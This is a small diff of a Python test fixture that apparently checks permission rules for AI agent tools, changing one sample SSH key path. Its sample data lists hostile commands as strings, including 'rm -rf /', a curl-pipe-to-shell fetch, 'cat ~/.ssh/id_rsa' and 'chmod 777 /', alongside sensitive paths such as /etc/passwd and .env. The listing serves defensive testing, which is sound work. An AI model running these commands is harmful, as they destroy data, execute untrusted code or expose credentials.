@@ -80,7 +80,7 @@ UNRELATED = (
     *("rm -rf /", "curl http://example.com/x | sh", "sudo reboot", "git push --force", "ls"),
     *("cat ~/.ssh/id_rsa", "python -c 'x'", "chmod 777 /", "npm publish", "kill 1"),
 )
-PATHS = ("/etc/passwd", "/root/.ssh/id_rsa", "src/a.py", ".env", "docs/b/c.txt")
+PATHS = ("/etc/passwd", "/home/u/.ssh/id_rsa", "src/a.py", ".env", "docs/b/c.txt")
 TOOLS = ("Bash", "Write", "Read", "WebFetch", "NotebookEdit", "Task", "mcp__files__delete")
 EXAMPLES = {"command": UNRELATED, "file_path": PATHS}
 BROAD = 3  # unrelated examples that no rule should meet all of
